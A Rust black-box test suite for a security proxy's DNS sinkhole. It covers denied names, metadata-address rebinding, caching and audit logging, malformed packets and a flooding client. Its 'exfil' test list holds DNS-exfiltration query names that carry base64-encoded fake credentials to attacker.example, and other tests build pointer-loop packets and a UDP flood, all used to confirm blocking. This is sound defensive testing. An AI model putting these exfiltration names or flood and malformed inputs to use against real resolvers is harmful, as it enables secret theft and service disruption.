//! Black-box tests of the DNS sinkhole in `secureops proxy`: the real
//! binary, `dig` (UDP and TCP), raw sockets for malformed input, and a stub
//! upstream resolver that records every name it is asked.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, OpCode, Query, ResponseCode};
use hickory_proto::rr::rdata::{A, CNAME};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use support::*;

/// A stub upstream resolver on 127.0.0.1 (UDP): records every name asked,
/// answers `93.184.215.14`, except `*.rebind.allowed.test` (the cloud
/// metadata address) and `cname.allowed.test` (a CNAME chain).
struct Upstream {
    addr: SocketAddr,
    names: Arc<Mutex<Vec<String>>>,
}

const PUBLIC: Ipv4Addr = Ipv4Addr::new(93, 184, 215, 14);

impl Upstream {
    fn start() -> Upstream {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        let addr = socket.local_addr().unwrap();
        let names = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&names);
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok((n, peer)) = socket.recv_from(&mut buf) {
                let Ok(q) = Message::from_vec(&buf[..n]) else { continue };
                let Some(question) = q.queries.first() else { continue };
                let name = question.name().clone();
                let text = name.to_ascii().to_ascii_lowercase();
                seen.lock().unwrap().push(text.clone());
                let mut r = Message::response(q.metadata.id, OpCode::Query);
                r.metadata.recursion_desired = q.metadata.recursion_desired;
                r.metadata.recursion_available = true;
                r.add_queries(q.queries.iter().cloned());
                if question.query_type() == RecordType::A {
                    if text.ends_with(".rebind.allowed.test.") {
                        r.add_answer(Record::from_rdata(
                            name,
                            60,
                            RData::A(A(Ipv4Addr::new(169, 254, 169, 254))),
                        ));
                    } else if text == "cname.allowed.test." {
                        let target = Name::from_ascii("target.cdn.example.").unwrap();
                        r.add_answer(Record::from_rdata(name, 60, RData::CNAME(CNAME(target.clone()))));
                        r.add_answer(Record::from_rdata(target, 60, RData::A(A(PUBLIC))));
                    } else {
                        r.add_answer(Record::from_rdata(name, 60, RData::A(A(PUBLIC))));
                    }
                }
                let _ = socket.send_to(&r.to_vec().unwrap(), peer);
            }
        });
        Upstream { addr, names }
    }

    fn names(&self) -> Vec<String> {
        self.names.lock().unwrap().clone()
    }
}

fn config(upstream: &Upstream, extra: &str) -> String {
    format!(
        r#"
[network]
egress_allowlist = ["static.test", "*.allowed.test", "ssh.test:22"]
private_destinations = ["127.0.0.0/8"]
[dns]
upstream = ["{}"]
hosts = {{ "static.test" = ["127.0.0.1", "127.0.0.2"], "denied-static.test" = ["127.0.0.1"] }}
{extra}
"#,
        upstream.addr
    )
}

/// `dig` against the sinkhole, bounded in time; returns its output.
fn dig(dns: SocketAddr, args: &[&str]) -> String {
    let out = Command::new("dig")
        .arg(format!("@{}", dns.ip()))
        .args(["-p", &dns.port().to_string(), "+time=3", "+tries=1"])
        .args(args)
        .output()
        .expect("dig (apt-get install dnsutils)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn status(output: &str) -> &str {
    output
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or("NO ANSWER")
}

/// The `+short` lines of a dig answer, sorted.
fn short(dns: SocketAddr, args: &[&str]) -> Vec<String> {
    let mut args = args.to_vec();
    args.push("+short");
    let mut lines: Vec<String> = dig(dns, &args).lines().map(str::to_owned).collect();
    lines.sort();
    lines
}

#[test]
fn static_names_answer_their_addresses_over_udp_and_tcp() {
    let upstream = Upstream::start();
    let proxy = Proxy::start(&config(&upstream, ""));
    assert_eq!(short(proxy.dns, &["static.test", "A"]), ["127.0.0.1", "127.0.0.2"]);
    assert_eq!(
        short(proxy.dns, &["+tcp", "Static.Test.", "A"]),
        ["127.0.0.1", "127.0.0.2"]
    );
    assert_eq!(status(&dig(proxy.dns, &["static.test", "AAAA"])), "NOERROR");
    assert!(upstream.names().is_empty(), "static names never go upstream");
    let entries = proxy.wait_decisions(3);
    assert_eq!(entries.len(), 3);
    for (e, qtype) in entries.iter().zip(["A", "A", "AAAA"]) {
        assert_eq!(e["kind"], "dns");
        assert_eq!(e["via"], "dns");
        assert_eq!(e["decision"], "allow");
        assert_eq!(e["host"], "static.test");
        assert_eq!(e["qtype"], qtype);
    }
    assert!(
        entries[1]["detail"]
            .as_str()
            .unwrap()
            .starts_with("tcp from 127.0.0.1:")
    );
}

#[test]
fn denied_names_are_nxdomain_and_never_reach_the_upstream() {
    let upstream = Upstream::start();
    let proxy = Proxy::start(&config(&upstream, ""));
    let exfil = [
        "c2VjcmV0LXRva2VuOiBBS0lBSU9TRk9ETk43RVhBTVBMRQ.attacker.example",
        "QUtJQUlPU0ZPRE5ON0VYQU1QTEUgd0phbHJYVXRuRkVNSS9LN01ERU5HL2JQ.eFJmaUNZ.ZXhmaWw.attacker.example",
        "x.denied-static.test",
        "denied-static.test",
        "allowed.test",
    ];
    let mut asked = 0;
    for name in exfil {
        for qtype in ["A", "AAAA", "TXT", "MX"] {
            let out = dig(proxy.dns, &[name, qtype]);
            assert_eq!(status(&out), "NXDOMAIN", "{name} {qtype}: {out}");
            asked += 1;
        }
    }
    for qtype in ["HTTPS", "SRV", "CNAME", "ANY"] {
        let out = dig(proxy.dns, &["+tcp", exfil[0], qtype]);
        assert_eq!(status(&out), "NXDOMAIN", "{qtype}: {out}");
        asked += 1;
    }
    // Allowed, not static: the upstream sees exactly these names.
    assert_eq!(short(proxy.dns, &["www.allowed.test", "A"]), [PUBLIC.to_string()]);
    assert_eq!(
        short(proxy.dns, &["ssh.test", "A"]),
        [PUBLIC.to_string()],
        "any-port rule"
    );
    asked += 2;
    let entries = proxy.wait_decisions(asked);
    assert_eq!(entries.len(), asked, "one entry per query");
    assert_eq!(upstream.names(), ["www.allowed.test.", "ssh.test."]);
    let denied: Vec<_> = entries.iter().filter(|e| e["decision"] == "deny").collect();
    assert_eq!(denied.len(), asked - 2);
    assert!(
        denied
            .iter()
            .all(|e| e["reason"].as_str().unwrap().contains("not in the egress allowlist"))
    );
    assert!(
        denied
            .iter()
            .any(|e| e["qtype"] == "HTTPS" && e["detail"].as_str().unwrap().starts_with("tcp"))
    );
}

#[test]
fn zero_sinkhole_answers_unspecified_addresses() {
    let upstream = Upstream::start();
    let proxy = Proxy::start(&config(&upstream, "sinkhole = \"zero\""));
    assert_eq!(short(proxy.dns, &["evil.example", "A"]), ["0.0.0.0"]);
    assert_eq!(short(proxy.dns, &["+tcp", "evil.example", "AAAA"]), ["::"]);
    let out = dig(proxy.dns, &["evil.example", "TXT"]);
    assert_eq!(status(&out), "NOERROR");
    assert!(out.contains("ANSWER: 0"), "{out}");
    assert!(upstream.names().is_empty());
}

#[test]
fn upstream_answers_into_private_ranges_are_not_passed_on() {
    let upstream = Upstream::start();
    let proxy = Proxy::start(&config(&upstream, ""));
    let out = dig(proxy.dns, &["metadata.rebind.allowed.test", "A"]);
    assert_eq!(status(&out), "NXDOMAIN", "{out}");
    assert!(!out.contains("169.254.169.254"), "{out}");
    assert_eq!(upstream.names(), ["metadata.rebind.allowed.test."]);
    // A CNAME chain to a public address is passed through.
    let chain = short(proxy.dns, &["cname.allowed.test", "A"]);
    assert_eq!(chain, [PUBLIC.to_string(), "target.cdn.example.".to_owned()]);
    let entries = proxy.wait_decisions(2);
    assert_eq!(entries[0]["decision"], "deny");
    let reason = entries[0]["reason"].as_str().unwrap();
    assert!(
        reason.contains("rebinding") && reason.contains("169.254.169.254"),
        "{reason}"
    );
    assert_eq!(entries[1]["decision"], "allow");
}

#[test]
fn every_query_is_one_verified_entry_and_repeats_come_from_the_cache() {
    // fsync=batch: answers in the UDP reader, entries appended on its
    // thread; fsync=always: every entry through the log's writer thread.
    for audit in ["", "[audit]\nfsync = \"always\""] {
        one_verified_entry_per_query(audit);
    }
}

fn one_verified_entry_per_query(audit: &str) {
    let upstream = Upstream::start();
    let dir = tempfile::tempdir().unwrap();
    let proxy = Proxy::start_at(dir.path(), &config(&upstream, audit));
    for _ in 0..3 {
        assert_eq!(short(proxy.dns, &["cached.allowed.test", "A"]), [PUBLIC.to_string()]);
    }
    assert_eq!(status(&dig(proxy.dns, &["nope.example", "A"])), "NXDOMAIN");
    // Private-range reverse lookups are answered here.
    assert_eq!(short(proxy.dns, &["-x", "127.0.0.2"]), ["static.test."]);
    assert_eq!(
        upstream.names(),
        ["cached.allowed.test."],
        "later answers from the cache"
    );
    let entries = proxy.wait_decisions(5);
    assert_eq!(entries.len(), 5);
    assert!(entries[1]["reason"].as_str().unwrap().contains("answered from cache"));
    assert_eq!(entries[4]["qtype"], "PTR");
    assert!(proxy.stop().success());
    let out = secureops(&["audit", "verify", "secureops-audit.jsonl"], dir.path());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
    // start + 5 queries + stop.
    assert!(text.starts_with("ok 7 entries"), "{text}");
}

#[test]
fn while_the_log_cannot_be_written_allowed_answers_are_refused_and_nothing_is_forwarded() {
    let Some(fs) = SmallFs::mount("while_the_log_cannot_be_written_allowed_answers_are_refused") else {
        return;
    };
    let upstream = Upstream::start();
    let log = fs.path.join("audit.jsonl");
    let audit = format!(
        "[audit]\npath = \"{}\"\nsigning_key = \"{}\"\n",
        log.display(),
        fs.dir.path().join("k.key").display()
    );
    let proxy = Proxy::start(&config(&upstream, &audit));
    let addresses = ["127.0.0.1", "127.0.0.2"];
    assert_eq!(short(proxy.dns, &["static.test", "A"]), addresses);
    let filler = fs.fill();
    // Static answers go on until the log's last page is full; then an
    // allowed answer that cannot be recorded is not given.
    let refused = (0..64).position(|_| status(&dig(proxy.dns, &["static.test", "A"])) == "REFUSED");
    assert!(refused.is_some(), "appends never failed on a full file system");
    assert_eq!(status(&dig(proxy.dns, &["+tcp", "static.test", "A"])), "REFUSED");
    // Nothing is forwarded unrecorded: the upstream is never asked.
    assert_eq!(status(&dig(proxy.dns, &["new.allowed.test", "A"])), "REFUSED");
    // A denied name still gets the sinkhole's answer (it tells nothing).
    assert_eq!(status(&dig(proxy.dns, &["exfil.example", "A"])), "NXDOMAIN");
    assert!(upstream.names().is_empty(), "{:?}", upstream.names());
    // Space back: answers again, and the log verifies.
    std::fs::remove_file(&filler).unwrap();
    let recovered = (0..5).any(|_| short(proxy.dns, &["static.test", "A"]) == addresses);
    assert!(recovered, "no answers after space was freed");
    let out = secureops(&["audit", "verify", "--open", log.to_str().unwrap()], fs.dir.path());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
}

/// A query for `name` A, as bytes, with ID `id`.
fn query(name: &str, id: u16) -> Vec<u8> {
    let mut m = Message::query();
    m.metadata.id = id;
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
    m.to_vec().unwrap()
}

/// Sends `bytes` over UDP and returns the answer, if one comes in `wait`.
fn exchange(socket: &UdpSocket, dns: SocketAddr, bytes: &[u8], wait: Duration) -> Option<Message> {
    socket.set_read_timeout(Some(wait)).unwrap();
    socket.send_to(bytes, dns).unwrap();
    let mut buf = [0u8; 4096];
    let (n, _) = socket.recv_from(&mut buf).ok()?;
    Message::from_vec(&buf[..n]).ok()
}

#[test]
fn malformed_packets_do_not_stop_the_next_query() {
    let upstream = Upstream::start();
    let proxy = Proxy::start(&config(&upstream, ""));
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let mut pointer_loop = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    pointer_loop.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1]);
    let mut two_pointers = vec![0xab, 0xce, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    two_pointers.extend_from_slice(&[1, b'a', 0xc0, 16, 1, b'b', 0xc0, 12, 0, 1, 0, 1]);
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let random: Vec<u8> = (0..300)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed as u8
        })
        .collect();
    let mut many_questions = Message::query();
    many_questions.metadata.id = 0x5151;
    for n in 0..20 {
        many_questions.add_query(Query::query(
            Name::from_ascii(format!("q{n}.test.")).unwrap(),
            RecordType::A,
        ));
    }
    let mut oversized = query("static.test.", 0x7777);
    oversized.resize(8000, 0);
    let bad: Vec<(&str, Vec<u8>)> = vec![
        ("empty", vec![]),
        ("truncated header", vec![0x12, 0x34, 0x01]),
        ("header only", vec![0x12, 0x35, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
        ("pointer loop", pointer_loop),
        ("two pointers", two_pointers),
        ("random bytes", random),
        ("20 questions", many_questions.to_vec().unwrap()),
        ("oversized", oversized),
    ];
    for (what, bytes) in &bad {
        if let Some(answer) = exchange(&socket, proxy.dns, bytes, Duration::from_millis(500)) {
            let rcode = answer.metadata.response_code;
            assert!(
                matches!(
                    rcode,
                    ResponseCode::FormErr | ResponseCode::Refused | ResponseCode::NotImp
                ),
                "{what}: {rcode:?}"
            );
        }
        let ok = exchange(
            &socket,
            proxy.dns,
            &query("static.test.", 0x4242),
            Duration::from_secs(3),
        )
        .unwrap_or_else(|| panic!("no answer after {what}"));
        assert_eq!(ok.metadata.id, 0x4242);
        assert_eq!(ok.answers.len(), 2, "after {what}");
    }
    // TCP: garbage, a client that never sends, a huge length then silence.
    let mut garbage = TcpStream::connect(proxy.dns).unwrap();
    garbage.write_all(&[0x00, 0x05, 1, 2, 3, 4, 5]).unwrap();
    let _silent = TcpStream::connect(proxy.dns).unwrap();
    let mut stalled = TcpStream::connect(proxy.dns).unwrap();
    stalled.write_all(&[0xff, 0xff, 1, 2]).unwrap();
    let out = dig(proxy.dns, &["+tcp", "static.test"]);
    assert_eq!(status(&out), "NOERROR", "{out}");
    garbage.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut rest = Vec::new();
    let _ = garbage.read_to_end(&mut rest);
    assert!(rest.is_empty(), "garbage gets no answer, the connection is closed");
    assert!(upstream.names().is_empty());
}

#[test]
fn a_flooding_client_does_not_starve_another() {
    let upstream = Upstream::start();
    let dir = tempfile::tempdir().unwrap();
    let proxy = Proxy::start_at(dir.path(), &config(&upstream, "client_rate = 200\nclient_burst = 200"));
    let stop = Arc::new(AtomicBool::new(false));
    let flood = {
        let (stop, dns) = (Arc::clone(&stop), proxy.dns);
        std::thread::spawn(move || {
            // Another loopback address: another client.
            let socket = UdpSocket::bind("127.0.0.2:0").unwrap();
            socket.set_nonblocking(true).unwrap();
            let started = Instant::now();
            let mut sent = 0u32;
            let mut buf = [0u8; 512];
            while !stop.load(Ordering::Relaxed) && sent < 200_000 && started.elapsed() < Duration::from_secs(20) {
                let bytes = query(&format!("f{sent}.flood.example."), sent as u16);
                if socket.send_to(&bytes, dns).is_ok() {
                    sent += 1;
                }
                while socket.recv_from(&mut buf).is_ok() {}
            }
            sent
        })
    };
    std::thread::sleep(Duration::from_millis(300));
    let quiet = UdpSocket::bind("127.0.0.1:0").unwrap();
    for id in 0..20u16 {
        let answer = exchange(&quiet, proxy.dns, &query("static.test.", id), Duration::from_secs(3))
            .unwrap_or_else(|| panic!("query {id} starved"));
        assert_eq!(answer.metadata.response_code, ResponseCode::NoError, "query {id}");
        assert_eq!(answer.answers.len(), 2);
        std::thread::sleep(Duration::from_millis(20));
    }
    stop.store(true, Ordering::Relaxed);
    let sent = flood.join().unwrap();
    assert!(sent > 1000, "the flood was a flood ({sent})");
    // The log did not grow with the flood: at most the burst and what the
    // rate refilled, plus the quiet client's 20 (and a summary on stop).
    assert!(proxy.stop().success());
    let entries: Vec<_> = read_entries(&dir.path().join("secureops-audit.jsonl"))
        .into_iter()
        .filter(|e| e["kind"] == "dns")
        .collect();
    assert!(
        entries.len() < 200 + 200 * 25 + 25,
        "{} entries for {sent} queries",
        entries.len()
    );
    let summary = entries
        .iter()
        .find(|e| e["reason"].as_str().unwrap().starts_with("client 127.0.0.2:"))
        .expect("a summary entry for the flooder");
    assert!(
        summary["reason"].as_str().unwrap().contains("queries refused"),
        "{summary}"
    );
    let quiet_ip = IpAddr::V4(Ipv4Addr::LOCALHOST).to_string();
    let answered = entries
        .iter()
        .filter(|e| {
            e["detail"]
                .as_str()
                .is_some_and(|d| d.contains(&format!("from {quiet_ip}:")))
        })
        .count();
    assert_eq!(answered, 20);
}
